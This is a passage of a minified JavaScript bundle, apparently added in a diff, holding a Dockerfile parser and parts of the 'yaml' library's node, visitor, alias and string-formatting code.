+`:if(o)continue;return this.processHeredocs(this.createInstruction(e,t,i,s,a),a);case this.escapeChar:let c=this.buffer.charAt(a+1);if(c===`
+`||c==="\r")o=!0,a++;else if(c===" "||c==="	"){for(let l=a+2;l<this.buffer.length;l++)switch(this.buffer.charAt(l)){case" ":case"	":break;case"\r":case`
+`:o=!0;default:a=l;continue e}return this.buffer.length}continue;case"#":if(o){a=this.processComment(e,a);continue e}break;case" ":case"	":break;default:o&&(o=!1);break}return this.buffer.length}processComment(e,t){let s=this.buffer.length;e:for(let r=t+1;r<this.buffer.length;r++)switch(this.buffer.charAt(r)){case"\r":case`
+`:s=r;break e}let i=jt.Range.create(this.document.positionAt(t),this.document.positionAt(s));return e.addComment(new Qb.Comment(this.document,i)),s}parseHeredoc(e,t,s){let i=-1,r=!0;for(let o=t;o<this.buffer.length;o++)switch(this.buffer.charAt(o)){case" ":r=!1;break;case"	":s||(r=!1);break;case"\r":case`
+`:if(i!==-1&&e===this.buffer.substring(i,o))return o;i=-1,r=!0;break;default:r&&(i=o,r=!1);break}return this.buffer.length}createInstruction(e,t,s,i,r){let o=this.document.positionAt(s),a=jt.Range.create(o,this.document.positionAt(i)),c=jt.Range.create(o,this.document.positionAt(r));return n.createInstruction(this.document,e,this.escapeChar,c,t,a)}};Qi.Parser=Pc});var Ye=x(N=>{"use strict";Object.defineProperty(N,"__esModule",{value:!0});N.DockerfileParser=N.DefaultVariables=N.Directive=N.Keyword=N.Workdir=N.Volume=N.User=N.Stopsignal=N.Shell=N.Run=N.PropertyInstruction=N.Onbuild=N.ModifiableInstruction=N.Label=N.JSONInstruction=N.Heredoc=N.Healthcheck=N.From=N.Env=N.Entrypoint=N.Copy=N.Cmd=N.Arg=N.Add=N.Variable=N.Property=N.ParserDirective=N.Line=N.Instruction=N.Flag=N.Comment=N.JSONArgument=N.Argument=void 0;var ww=on();Object.defineProperty(N,"Argument",{enumerable:!0,get:function(){return ww.Argument}});var vw=Io();Object.defineProperty(N,"JSONArgument",{enumerable:!0,get:function(){return vw.JSONArgument}});var kw=Ga();Object.defineProperty(N,"Comment",{enumerable:!0,get:function(){return kw.Comment}});var xw=Rc(),Rw=rc();Object.defineProperty(N,"Flag",{enumerable:!0,get:function(){return Rw.Flag}});var Ow=Qe();Object.defineProperty(N,"Instruction",{enumerable:!0,get:function(){return Ow.Instruction}});var Sw=Xn();Object.defineProperty(N,"Line",{enumerable:!0,get:function(){return Sw.Line}});var Mw=Ka();Object.defineProperty(N,"ParserDirective",{enumerable:!0,get:function(){return Mw.ParserDirective}});var Aw=Si();Object.defineProperty(N,"Property",{enumerable:!0,get:function(){return Aw.Property}});var Nw=ec();Object.defineProperty(N,"Variable",{enumerable:!0,get:function(){return Nw.Variable}});var Ew=uc();Object.defineProperty(N,"Add",{enumerable:!0,get:function(){return Ew.Add}});var Fw=Ni();Object.defineProperty(N,"Arg",{enumerable:!0,get:function(){return Fw.Arg}});var Cw=Fi();Object.defineProperty(N,"Cmd",{enumerable:!0,get:function(){return Cw.Cmd}});var Lw=Li();Object.defineProperty(N,"Copy",{enumerable:!0,get:function(){return Lw.Copy}});var Dw=_i();Object.defineProperty(N,"Entrypoint",{enumerable:!0,get:function(){return Dw.Entrypoint}});var Tw=Ti();Object.defineProperty(N,"Env",{enumerable:!0,get:function(){return Tw.Env}});var jw=ss();Object.defineProperty(N,"From",{enumerable:!0,get:function(){return jw.From}});var _w=Pi();Object.defineProperty(N,"Healthcheck",{enumerable:!0,get:function(){return _w.Healthcheck}});var $w=Za();Object.defineProperty(N,"Heredoc",{enumerable:!0,get:function(){return $w.Heredoc}});var Iw=et();Object.defineProperty(N,"JSONInstruction",{enumerable:!0,get:function(){return Iw.JSONInstruction}});var Pw=kc();Object.defineProperty(N,"Label",{enumerable:!0,get:function(){return Pw.Label}});var qw=ts();Object.defineProperty(N,"ModifiableInstruction",{enumerable:!0,get:function(){return qw.ModifiableInstruction}});var Uw=Hi();Object.defineProperty(N,"Onbuild",{enumerable:!0,get:function(){return Uw.Onbuild}});var Hw=ns();Object.defineProperty(N,"PropertyInstruction",{enumerable:!0,get:function(){return Hw.PropertyInstruction}});var Yw=Sc();Object.defineProperty(N,"Run",{enumerable:!0,get:function(){return Yw.Run}});var Bw=Ac();Object.defineProperty(N,"Shell",{enumerable:!0,get:function(){return Bw.Shell}});var Ww=Ec();Object.defineProperty(N,"Stopsignal",{enumerable:!0,get:function(){return Ww.Stopsignal}});var Gw=Lc();Object.defineProperty(N,"User",{enumerable:!0,get:function(){return Gw.User}});var Vw=Tc();Object.defineProperty(N,"Volume",{enumerable:!0,get:function(){return Vw.Volume}});var zw=Vi();Object.defineProperty(N,"Workdir",{enumerable:!0,get:function(){return zw.Workdir}});var Cp;(function(n){n.ADD="ADD",n.ARG="ARG",n.CMD="CMD",n.COPY="COPY",n.ENTRYPOINT="ENTRYPOINT",n.ENV="ENV",n.EXPOSE="EXPOSE",n.FROM="FROM",n.HEALTHCHECK="HEALTHCHECK",n.LABEL="LABEL",n.MAINTAINER="MAINTAINER",n.ONBUILD="ONBUILD",n.RUN="RUN",n.SHELL="SHELL",n.STOPSIGNAL="STOPSIGNAL",n.USER="USER",n.VOLUME="VOLUME",n.WORKDIR="WORKDIR"})(Cp||(N.Keyword=Cp={}));var Lp;(function(n){n.escape="escape",n.syntax="syntax"})(Lp||(N.Directive=Lp={}));N.DefaultVariables=["ALL_PROXY","all_proxy","FTP_PROXY","ftp_proxy","HTTP_PROXY","http_proxy","HTTPS_PROXY","https_proxy","NO_PROXY","no_proxy"];var Dp;(function(n){function e(t){return new xw.Parser().parse(t)}n.parse=e})(Dp||(N.DockerfileParser=Dp={}))});var I=x(ae=>{"use strict";var rl=Symbol.for("yaml.alias"),qf=Symbol.for("yaml.document"),gr=Symbol.for("yaml.map"),Uf=Symbol.for("yaml.pair"),ol=Symbol.for("yaml.scalar"),mr=Symbol.for("yaml.seq"),st=Symbol.for("yaml.node.type"),bR=n=>!!n&&typeof n=="object"&&n[st]===rl,wR=n=>!!n&&typeof n=="object"&&n[st]===qf,vR=n=>!!n&&typeof n=="object"&&n[st]===gr,kR=n=>!!n&&typeof n=="object"&&n[st]===Uf,Hf=n=>!!n&&typeof n=="object"&&n[st]===ol,xR=n=>!!n&&typeof n=="object"&&n[st]===mr;function Yf(n){if(n&&typeof n=="object")switch(n[st]){case gr:case mr:return!0}return!1}function RR(n){if(n&&typeof n=="object")switch(n[st]){case rl:case gr:case ol:case mr:return!0}return!1}var OR=n=>(Hf(n)||Yf(n))&&!!n.anchor;ae.ALIAS=rl;ae.DOC=qf;ae.MAP=gr;ae.NODE_TYPE=st;ae.PAIR=Uf;ae.SCALAR=ol;ae.SEQ=mr;ae.hasAnchor=OR;ae.isAlias=bR;ae.isCollection=Yf;ae.isDocument=wR;ae.isMap=vR;ae.isNode=RR;ae.isPair=kR;ae.isScalar=Hf;ae.isSeq=xR});var us=x(al=>{"use strict";var te=I(),we=Symbol("break visit"),Bf=Symbol("skip children"),ze=Symbol("remove node");function hr(n,e){let t=Wf(e);te.isDocument(n)?kn(null,n.contents,t,Object.freeze([n]))===ze&&(n.contents=null):kn(null,n,t,Object.freeze([]))}hr.BREAK=we;hr.SKIP=Bf;hr.REMOVE=ze;function kn(n,e,t,s){let i=Gf(n,e,t,s);if(te.isNode(i)||te.isPair(i))return Vf(n,s,i),kn(n,i,t,s);if(typeof i!="symbol"){if(te.isCollection(e)){s=Object.freeze(s.concat(e));for(let r=0;r<e.items.length;++r){let o=kn(r,e.items[r],t,s);if(typeof o=="number")r=o-1;else{if(o===we)return we;o===ze&&(e.items.splice(r,1),r-=1)}}}else if(te.isPair(e)){s=Object.freeze(s.concat(e));let r=kn("key",e.key,t,s);if(r===we)return we;r===ze&&(e.key=null);let o=kn("value",e.value,t,s);if(o===we)return we;o===ze&&(e.value=null)}}return i}async function yr(n,e){let t=Wf(e);te.isDocument(n)?await xn(null,n.contents,t,Object.freeze([n]))===ze&&(n.contents=null):await xn(null,n,t,Object.freeze([]))}yr.BREAK=we;yr.SKIP=Bf;yr.REMOVE=ze;async function xn(n,e,t,s){let i=await Gf(n,e,t,s);if(te.isNode(i)||te.isPair(i))return Vf(n,s,i),xn(n,i,t,s);if(typeof i!="symbol"){if(te.isCollection(e)){s=Object.freeze(s.concat(e));for(let r=0;r<e.items.length;++r){let o=await xn(r,e.items[r],t,s);if(typeof o=="number")r=o-1;else{if(o===we)return we;o===ze&&(e.items.splice(r,1),r-=1)}}}else if(te.isPair(e)){s=Object.freeze(s.concat(e));let r=await xn("key",e.key,t,s);if(r===we)return we;r===ze&&(e.key=null);let o=await xn("value",e.value,t,s);if(o===we)return we;o===ze&&(e.value=null)}}return i}function Wf(n){return typeof n=="object"&&(n.Collection||n.Node||n.Value)?Object.assign({Alias:n.Node,Map:n.Node,Scalar:n.Node,Seq:n.Node},n.Value&&{Map:n.Value,Scalar:n.Value,Seq:n.Value},n.Collection&&{Map:n.Collection,Seq:n.Collection},n):n}function Gf(n,e,t,s){if(typeof t=="function")return t(n,e,s);if(te.isMap(e))return t.Map?.(n,e,s);if(te.isSeq(e))return t.Seq?.(n,e,s);if(te.isPair(e))return t.Pair?.(n,e,s);if(te.isScalar(e))return t.Scalar?.(n,e,s);if(te.isAlias(e))return t.Alias?.(n,e,s)}function Vf(n,e,t){let s=e[e.length-1];if(te.isCollection(s))s.items[n]=t;else if(te.isPair(s))n==="key"?s.key=t:s.value=t;else if(te.isDocument(s))s.contents=t;else{let i=te.isAlias(s)?"alias":"scalar";throw new Error(`Cannot replace node with ${i} parent`)}}al.visit=hr;al.visitAsync=yr});var cl=x(Jf=>{"use strict";var zf=I(),SR=us(),MR={"!":"%21",",":"%2C","[":"%5B","]":"%5D","{":"%7B","}":"%7D"},AR=n=>n.replace(/[!,[\]{}]/g,e=>MR[e]),ps=class n{constructor(e,t){this.docStart=null,this.docEnd=!1,this.yaml=Object.assign({},n.defaultYaml,e),this.tags=Object.assign({},n.defaultTags,t)}clone(){let e=new n(this.yaml,this.tags);return e.docStart=this.docStart,e}atDocument(){let e=new n(this.yaml,this.tags);switch(this.yaml.version){case"1.1":this.atNextDocument=!0;break;case"1.2":this.atNextDocument=!1,this.yaml={explicit:n.defaultYaml.explicit,version:"1.2"},this.tags=Object.assign({},n.defaultTags);break}return e}add(e,t){this.atNextDocument&&(this.yaml={explicit:n.defaultYaml.explicit,version:"1.1"},this.tags=Object.assign({},n.defaultTags),this.atNextDocument=!1);let s=e.trim().split(/[ \t]+/),i=s.shift();switch(i){case"%TAG":{if(s.length!==2&&(t(0,"%TAG directive should contain exactly two parts"),s.length<2))return!1;let[r,o]=s;return this.tags[r]=o,!0}case"%YAML":{if(this.yaml.explicit=!0,s.length!==1)return t(0,"%YAML directive should contain exactly one part"),!1;let[r]=s;if(r==="1.1"||r==="1.2")return this.yaml.version=r,!0;{let o=/^\d+\.\d+$/.test(r);return t(6,`Unsupported YAML version ${r}`,o),!1}}default:return t(0,`Unknown directive ${i}`,!0),!1}}tagName(e,t){if(e==="!")return"!";if(e[0]!=="!")return t(`Not a valid tag: ${e}`),null;if(e[1]==="<"){let o=e.slice(2,-1);return o==="!"||o==="!!"?(t(`Verbatim tags aren't resolved, so ${e} is invalid.`),null):(e[e.length-1]!==">"&&t("Verbatim tags must end with a >"),o)}let[,s,i]=e.match(/^(.*!)([^!]*)$/s);i||t(`The ${e} tag has no suffix`);let r=this.tags[s];if(r)try{return r+decodeURIComponent(i)}catch(o){return t(String(o)),null}return s==="!"?e:(t(`Could not resolve tag: ${e}`),null)}tagString(e){for(let[t,s]of Object.entries(this.tags))if(e.startsWith(s))return t+AR(e.substring(s.length));return e[0]==="!"?e:`!<${e}>`}toString(e){let t=this.yaml.explicit?[`%YAML ${this.yaml.version||"1.2"}`]:[],s=Object.entries(this.tags),i;if(e&&s.length>0&&zf.isNode(e.contents)){let r={};SR.visit(e.contents,(o,a)=>{zf.isNode(a)&&a.tag&&(r[a.tag]=!0)}),i=Object.keys(r)}else i=[];for(let[r,o]of s)r==="!!"&&o==="tag:yaml.org,2002:"||(!e||i.some(a=>a.startsWith(o)))&&t.push(`%TAG ${r} ${o}`);return t.join(`
+`)}};ps.defaultYaml={explicit:!1,version:"1.2"};ps.defaultTags={"!!":"tag:yaml.org,2002:"};Jf.Directives=ps});var br=x(ds=>{"use strict";var Kf=I(),NR=us();function ER(n){if(/[\x00-\x19\s,[\]{}]/.test(n)){let t=`Anchor must not contain whitespace or control characters: ${JSON.stringify(n)}`;throw new Error(t)}return!0}function Xf(n){let e=new Set;return NR.visit(n,{Value(t,s){s.anchor&&e.add(s.anchor)}}),e}function Zf(n,e){for(let t=1;;++t){let s=`${n}${t}`;if(!e.has(s))return s}}function FR(n,e){let t=[],s=new Map,i=null;return{onAnchor:r=>{t.push(r),i??(i=Xf(n));let o=Zf(e,i);return i.add(o),o},setAnchors:()=>{for(let r of t){let o=s.get(r);if(typeof o=="object"&&o.anchor&&(Kf.isScalar(o.node)||Kf.isCollection(o.node)))o.node.anchor=o.anchor;else{let a=new Error("Failed to resolve repeated object (this should not happen)");throw a.source=r,a}}},sourceObjects:s}}ds.anchorIsValid=ER;ds.anchorNames=Xf;ds.createNodeAnchors=FR;ds.findNewAnchor=Zf});var ll=x(Qf=>{"use strict";function fs(n,e,t,s){if(s&&typeof s=="object")if(Array.isArray(s))for(let i=0,r=s.length;i<r;++i){let o=s[i],a=fs(n,s,String(i),o);a===void 0?delete s[i]:a!==o&&(s[i]=a)}else if(s instanceof Map)for(let i of Array.from(s.keys())){let r=s.get(i),o=fs(n,s,i,r);o===void 0?s.delete(i):o!==r&&s.set(i,o)}else if(s instanceof Set)for(let i of Array.from(s)){let r=fs(n,s,i,i);r===void 0?s.delete(i):r!==i&&(s.delete(i),s.add(r))}else for(let[i,r]of Object.entries(s)){let o=fs(n,s,i,r);o===void 0?delete s[i]:o!==r&&(s[i]=o)}return n.call(e,t,s)}Qf.applyReviver=fs});var mt=x(tg=>{"use strict";var CR=I();function eg(n,e,t){if(Array.isArray(n))return n.map((s,i)=>eg(s,String(i),t));if(n&&typeof n.toJSON=="function"){if(!t||!CR.hasAnchor(n))return n.toJSON(e,t);let s={aliasCount:0,count:1,res:void 0};t.anchors.set(n,s),t.onCreate=r=>{s.res=r,delete t.onCreate};let i=n.toJSON(e,t);return t.onCreate&&t.onCreate(i),i}return typeof n=="bigint"&&!t?.keep?Number(n):n}tg.toJS=eg});var wr=x(sg=>{"use strict";var LR=ll(),ng=I(),DR=mt(),ul=class{constructor(e){Object.defineProperty(this,ng.NODE_TYPE,{value:e})}clone(){let e=Object.create(Object.getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return this.range&&(e.range=this.range.slice()),e}toJS(e,{mapAsMap:t,maxAliasCount:s,onAnchor:i,reviver:r}={}){if(!ng.isDocument(e))throw new TypeError("A document argument is required");let o={anchors:new Map,doc:e,keep:!0,mapAsMap:t===!0,mapKeyWarned:!1,maxAliasCount:typeof s=="number"?s:100},a=DR.toJS(this,"",o);if(typeof i=="function")for(let{count:c,res:l}of o.anchors.values())i(l,c);return typeof r=="function"?LR.applyReviver(r,{"":a},"",a):a}};sg.NodeBase=ul});var gs=x(ig=>{"use strict";var TR=br(),jR=us(),Rn=I(),_R=wr(),$R=mt(),pl=class extends _R.NodeBase{constructor(e){super(Rn.ALIAS),this.source=e,Object.defineProperty(this,"tag",{set(){throw new Error("Alias nodes cannot have tags")}})}resolve(e,t){if(t?.maxAliasCount===0)throw new ReferenceError("Alias resolution is disabled");let s;t?.aliasResolveCache?s=t.aliasResolveCache:(s=[],jR.visit(e,{Node:(r,o)=>{(Rn.isAlias(o)||Rn.hasAnchor(o))&&s.push(o)}}),t&&(t.aliasResolveCache=s));let i;for(let r of s){if(r===this)break;r.anchor===this.source&&(i=r)}if(i&&t){let{anchors:r,doc:o,maxAliasCount:a}=t,c=r.get(i);if(c||($R.toJS(i,null,t),c=r.get(i)),c?.res===void 0){let l="This should not happen: Alias anchor was not resolved?";throw new ReferenceError(l)}if(a>=0&&(c.count+=1,c.aliasCount===0&&(c.aliasCount=vr(o,i,r)),c.count*c.aliasCount>a)){let l="Excessive alias count indicates a resource exhaustion attack";throw new ReferenceError(l)}}return i}toJSON(e,t){if(!t)return{source:this.source};let s=this.resolve(t.doc,t);if(!s){let i=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new ReferenceError(i)}return t.anchors.get(s).res}toString(e,t,s){let i=`*${this.source}`;if(e){if(TR.anchorIsValid(this.source),e.options.verifyAliasOrder&&!e.anchors.has(this.source)){let r=`Unresolved alias (the anchor must be set before the alias): ${this.source}`;throw new Error(r)}if(e.implicitKey)return`${i} `}return i}};function vr(n,e,t){if(Rn.isAlias(e)){let s=e.resolve(n),i=t&&s&&t.get(s);return i?i.count*i.aliasCount:0}else if(Rn.isCollection(e)){let s=0;for(let i of e.items){let r=vr(n,i,t);r>s&&(s=r)}return s}else if(Rn.isPair(e)){let s=vr(n,e.key,t),i=vr(n,e.value,t);return Math.max(s,i)}return 1}ig.Alias=pl});var Q=x(dl=>{"use strict";var IR=I(),PR=wr(),qR=mt(),UR=n=>!n||typeof n!="function"&&typeof n!="object",ht=class extends PR.NodeBase{constructor(e){super(IR.SCALAR),this.value=e}toJSON(e,t){return t?.keep?this.value:qR.toJS(this.value,e,t)}toString(){return String(this.value)}};ht.BLOCK_FOLDED="BLOCK_FOLDED";ht.BLOCK_LITERAL="BLOCK_LITERAL";ht.PLAIN="PLAIN";ht.QUOTE_DOUBLE="QUOTE_DOUBLE";ht.QUOTE_SINGLE="QUOTE_SINGLE";dl.Scalar=ht;dl.isScalarValue=UR});var ms=x(og=>{"use strict";var HR=gs(),qt=I(),rg=Q(),YR="tag:yaml.org,2002:";function BR(n,e,t){if(e){let s=t.filter(r=>r.tag===e),i=s.find(r=>!r.format)??s[0];if(!i)throw new Error(`Tag ${e} not found`);return i}return t.find(s=>s.identify?.(n)&&!s.format)}function WR(n,e,t){if(qt.isDocument(n)&&(n=n.contents),qt.isNode(n))return n;if(qt.isPair(n)){let p=t.schema[qt.MAP].createNode?.(t.schema,null,t);return p.items.push(n),p}(n instanceof String||n instanceof Number||n instanceof Boolean||typeof BigInt<"u"&&n instanceof BigInt)&&(n=n.valueOf());let{aliasDuplicateObjects:s,onAnchor:i,onTagObj:r,schema:o,sourceObjects:a}=t,c;if(s&&n&&typeof n=="object"){if(c=a.get(n),c)return c.anchor??(c.anchor=i(n)),new HR.Alias(c.anchor);c={anchor:null,node:null},a.set(n,c)}e?.startsWith("!!")&&(e=YR+e.slice(2));let l=BR(n,e,o.tags);if(!l){if(n&&typeof n.toJSON=="function"&&(n=n.toJSON()),!n||typeof n!="object"){let p=new rg.Scalar(n);return c&&(c.node=p),p}l=n instanceof Map?o[qt.MAP]:Symbol.iterator in Object(n)?o[qt.SEQ]:o[qt.MAP]}r&&(r(l),delete t.onTagObj);let u=l?.createNode?l.createNode(t.schema,n,t):typeof l?.nodeClass?.from=="function"?l.nodeClass.from(t.schema,n,t):new rg.Scalar(n);return e?u.tag=e:l.default||(u.tag=l.tag),c&&(c.node=u),u}og.createNode=WR});var xr=x(kr=>{"use strict";var GR=ms(),Je=I(),VR=wr();function fl(n,e,t){let s=t;for(let i=e.length-1;i>=0;--i){let r=e[i];if(typeof r=="number"&&Number.isInteger(r)&&r>=0){let o=[];o[r]=s,s=o}else s=new Map([[r,s]])}return GR.createNode(s,void 0,{aliasDuplicateObjects:!1,keepUndefined:!1,onAnchor:()=>{throw new Error("This should not happen, please report a bug.")},schema:n,sourceObjects:new Map})}var ag=n=>n==null||typeof n=="object"&&!!n[Symbol.iterator]().next().done,gl=class extends VR.NodeBase{constructor(e,t){super(e),Object.defineProperty(this,"schema",{value:t,configurable:!0,enumerable:!1,writable:!0})}clone(e){let t=Object.create(Object.getPrototypeOf(this),Object.getOwnPropertyDescriptors(this));return e&&(t.schema=e),t.items=t.items.map(s=>Je.isNode(s)||Je.isPair(s)?s.clone(e):s),this.range&&(t.range=this.range.slice()),t}addIn(e,t){if(ag(e))this.add(t);else{let[s,...i]=e,r=this.get(s,!0);if(Je.isCollection(r))r.addIn(i,t);else if(r===void 0&&this.schema)this.set(s,fl(this.schema,i,t));else throw new Error(`Expected YAML collection at ${s}. Remaining path: ${i}`)}}deleteIn(e){let[t,...s]=e;if(s.length===0)return this.delete(t);let i=this.get(t,!0);if(Je.isCollection(i))return i.deleteIn(s);throw new Error(`Expected YAML collection at ${t}. Remaining path: ${s}`)}getIn(e,t){let[s,...i]=e,r=this.get(s,!0);return i.length===0?!t&&Je.isScalar(r)?r.value:r:Je.isCollection(r)?r.getIn(i,t):void 0}hasAllNullValues(e){return this.items.every(t=>{if(!Je.isPair(t))return!1;let s=t.value;return s==null||e&&Je.isScalar(s)&&s.value==null&&!s.commentBefore&&!s.comment&&!s.tag})}hasIn(e){let[t,...s]=e;if(s.length===0)return this.has(t);let i=this.get(t,!0);return Je.isCollection(i)?i.hasIn(s):!1}setIn(e,t){let[s,...i]=e;if(i.length===0)this.set(s,t);else{let r=this.get(s,!0);if(Je.isCollection(r))r.setIn(i,t);else if(r===void 0&&this.schema)this.set(s,fl(this.schema,i,t));else throw new Error(`Expected YAML collection at ${s}. Remaining path: ${i}`)}}};kr.Collection=gl;kr.collectionFromPath=fl;kr.isEmptyPath=ag});var hs=x(Rr=>{"use strict";var zR=n=>n.replace(/^(?!$)(?: $)?/gm,"#");function ml(n,e){return/^\n+$/.test(n)?n.substring(1):e?n.replace(/^(?! *$)/gm,e):n}var JR=(n,e,t)=>n.endsWith(`
+`)?ml(t,e):t.includes(`
+`)?`
+`+ml(t,e):(n.endsWith(" ")?"":" ")+t;Rr.indentComment=ml;Rr.lineComment=JR;Rr.stringifyComment=zR});var lg=x(ys=>{"use strict";var KR="flow",hl="block",Or="quoted";function XR(n,e,t="flow",{indentAtStart:s,lineWidth:i=80,minContentWidth:r=20,onFold:o,onOverflow:a}={}){if(!i||i<0)return n;i<r&&(r=0);let c=Math.max(1+r,1+i-e.length);if(n.length<=c)return n;let l=[],u={},p=i-e.length;typeof s=="number"&&(s>i-Math.max(2,r)?l.push(0):p=i-s);let d,f,m=!1,g=-1,h=-1,y=-1;t===hl&&(g=cg(n,g,e.length),g!==-1&&(p=g+c));for(let k;k=n[g+=1];){if(t===Or&&k==="\\"){switch(h=g,n[g+1]){case"x":g+=3;break;case"u":g+=5;break;case"U":g+=9;break;default:g+=1}y=g}if(k===`
+`)t===hl&&(g=cg(n,g,e.length)),p=g+e.length+c,d=void 0;else{if(k===" "&&f&&f!==" "&&f!==`
+`&&f!=="	"){let v=n[g+1];v&&v!==" "&&v!==`
+`&&v!=="	"&&(d=g)}if(g>=p)if(d)l.push(d),p=d+c,d=void 0;else if(t===Or){for(;f===" "||f==="	";)f=k,k=n[g+=1],m=!0;let v=g>y+1?g-2:h-1;if(u[v])return n;l.push(v),u[v]=!0,p=v+c,d=void 0}else m=!0}f=k}if(m&&a&&a(),l.length===0)return n;o&&o();let w=n.slice(0,l[0]);for(let k=0;k<l.length;++k){let v=l[k],O=l[k+1]||n.length;v===0?w=`
+${e}${n.slice(0,O)}`:(t===Or&&u[v]&&(w+=`${n[v]}\\`),w+=`
+${e}${n.slice(v+1,O)}`)}return w}function cg(n,e,t){let s=e,i=e+1,r=n[i];for(;r===" "||r==="	";)if(e<i+t)r=n[++e];else{do r=n[++e];while(r&&r!==`
+`);s=e,i=e+1,r=n[i]}return s}ys.FOLD_BLOCK=hl;ys.FOLD_FLOW=KR;ys.FOLD_QUOTED=Or;ys.foldFlowLines=XR});var ws=x(ug=>{"use strict";var je=Q(),yt=lg(),Mr=(n,e)=>({indentAtStart:e?n.indent.length:n.indentAtStart,lineWidth:n.options.lineWidth,minContentWidth:n.options.minContentWidth}),Ar=n=>/^(%|---|\.\.\.)/m.test(n);function ZR(n,e,t){if(!e||e<0)return!1;let s=e-t,i=n.length;if(i<=s)return!1;for(let r=0,o=0;r<i;++r)if(n[r]===`
+`){if(r-o>s)return!0;if(o=r+1,i-o<=s)return!1}return!0}function bs(n,e){let t=JSON.stringify(n);if(e.options.doubleQuotedAsJSON)return t;let{implicitKey:s}=e,i=e.options.doubleQuotedMinMultiLineLength,r=e.indent||(Ar(n)?"  ":""),o="",a=0;for(let c=0,l=t[c];l;l=t[++c])if(l===" "&&t[c+1]==="\\"&&t[c+2]==="n"&&(o+=t.slice(a,c)+"\\ ",c+=1,a=c,l="\\"),l==="\\")switch(t[c+1]){case"u":{o+=t.slice(a,c);let u=t.substr(c+2,4);switch(u){case"0000":o+="\\0";break;case"0007":o+="\\a";break;case"000b":o+="\\v";break;case"001b":o+="\\e";break;case"0085":o+="\\N";break;case"00a0":o+="\\_";break;case"2028":o+="\\L";break;case"2029":o+="\\P";break;default:u.substr(0,2)==="00"?o+="\\x"+u.substr(2):o+=t.substr(c,6)}c+=5,a=c+1}break;case"n":if(s||t[c+2]==='"'||t.length<i)c+=1;else{for(o+=t.slice(a,c)+`
+
+`;t[c+2]==="\\"&&t[c+3]==="n"&&t[c+4]!=='"';)o+=`
+`,c+=2;o+=r,t[c+2]===" "&&(o+="\\"),c+=1,a=c+1}break;default:c+=1}return o=a?o+t.slice(a):t,s?o:yt.foldFlowLines(o,r,yt.FOLD_QUOTED,Mr(e,!1))}function yl(n,e){if(e.options.singleQuote===!1||e.implicitKey&&n.includes(`
+`)||/[ \t]\n|\n[ \t]/.test(n))return bs(n,e);let t=e.indent||(Ar(n)?"  ":""),s="'"+n.replace(/'/g,"''").replace(/\n+/g,`$&
+${t}`)+"'";return e.implicitKey?s:yt.foldFlowLines(s,t,yt.FOLD_FLOW,Mr(e,!1))}function On(n,e){let{singleQuote:t}=e.options,s;if(t===!1)s=bs;else{let i=n.includes('"'),r=n.includes("'");i&&!r?s=yl:r&&!i?s=bs:s=t?yl:bs}return s(n,e)}var bl;try{bl=new RegExp(`(^|(?<!
+))
++(?!
+|$)`,"g")}catch{bl=/\n+(?!\n|$)/g}function Sr({comment:n,type:e,value:t},s,i,r){let{blockQuote:o,commentString:a,lineWidth:c}=s.options;if(!o||/\n[\t ]+$/.test(t))return On(t,s);let l=s.indent||(s.forceBlockIndent||Ar(t)?"  ":""),u=o==="literal"?!0:o==="folded"||e===je.Scalar.BLOCK_FOLDED?!1:e===je.Scalar.BLOCK_LITERAL?!0:!ZR(t,c,l.length);if(!t)return u?`|
+`:`>
+`;let p,d;for(d=t.length;d>0;--d){let O=t[d-1];if(O!==`
+`&&O!=="	"&&O!==" ")break}let f=t.substring(d),m=f.indexOf(`
+`);m===-1?p="-":t===f||m!==f.length-1?(p="+",r&&r()):p="",f&&(t=t.slice(0,-f.length),f[f.length-1]===`
+`&&(f=f.slice(0,-1)),f=f.replace(bl,`$&${l}`));let g=!1,h,y=-1;for(h=0;h<t.length;++h){let O=t[h];if(O===" ")g=!0;else if(O===`
+`)y=h;else break}let w=t.substring(0,y<h?y+1:h);w&&(t=t.substring(w.length),w=w.replace(/\n+/g,`$&${l}`));let v=(g?l?"2":"1":"")+p;if(n&&(v+=" "+a(n.replace(/ ?[\r\n]+/g," ")),i&&i()),!u){let O=t.replace(/\n+/g,`
+$&`).replace(/(?:^|\n)([\t ].*)(?:([\n\t ]*)\n(?![\n\t ]))?/g,"$1$2").replace(/\n+/g,`$&${l}`),R=!1,M=Mr(s,!0);o!=="folded"&&e!==je.Scalar.BLOCK_FOLDED&&(M.onOverflow=()=>{R=!0});let S=yt.foldFlowLines(`${w}${O}${f}`,l,yt.FOLD_BLOCK,M);if(!R)return`>${v}
+${l}${S}`}return t=t.replace(/\n+/g,`$&${l}`),`|${v}
+${l}${w}${t}${f}`}function QR(n,e,t,s){let{type:i,value:r}=n,{actualString:o,implicitKey:a,indent:c,indentStep:l,inFlow:u}=e;if(a&&r.includes(`
+`)||u&&/[[\]{},]/.test(r))return On(r,e);if(/^[\n\t ,[\]{}#&*!|>'"%@`]|^[?-]$|^[?-][ \t]|[\n:][ \t]|[ \t]\n|[\n\t ]#|[\n\t :]$/.test(r))return a||u||!r.includes(`
+`)?On(r,e):Sr(n,e,t,s);if(!a&&!u&&i!==je.Scalar.PLAIN&&r.includes(`
+`))return Sr(n,e,t,s);if(Ar(r)){if(c==="")return e.forceBlockIndent=!0,Sr(n,e,t,s);if(a&&c===l)return On(r,e)}let p=r.replace(/\n+/g,`$&
+${c}`);if(o){let d=g=>g.default&&g.tag!=="tag:yaml.org,2002:str"&&g.test?.test(p),{compat:f,tags:m}=e.doc.schema;if(m.some(d)||f?.some(d))return On(r,e)}return a?p:yt.foldFlowLines(p,c,yt.FOLD_FLOW,Mr(e,!1))}function eO(n,e,t,s){let{implicitKey:i,inFlow:r}=e,o=typeof n.value=="string"?n:Object.assign({},n,{value:String(n.value)}),{type:a}=n;a!==je.Scalar.QUOTE_DOUBLE&&/[\x00-\x08\x0b-\x1f\x7f-\x9f\u{D800}-\u{DFFF}]/u.test(o.value)&&(a=je.Scalar.QUOTE_DOUBLE);let c=u=>{switch(u){case je.Scalar.BLOCK_FOLDED:case je.Scalar.BLOCK_LITERAL:return i||r?On(o.value,e):Sr(o,e,t,s);case je.Scalar.QUOTE_DOUBLE:return bs(o.value,e);case je.Scalar.QUOTE_SINGLE:return yl(o.value,e);case je.Scalar.PLAIN:return QR(o,e,t,s);default:return null}},l=c(a);if(l===null){let{defaultKeyType:u,defaultStringType:p}=e.options,d=i&&u||p;if(l=c(d),l===null)throw new Error(`Unsupported default string type ${d}`)}return l}ug.stringifyString=eO});var vs=x(wl=>{"use strict";var tO=br(),bt=I(),nO=hs(),sO=ws();function iO(n,e){let 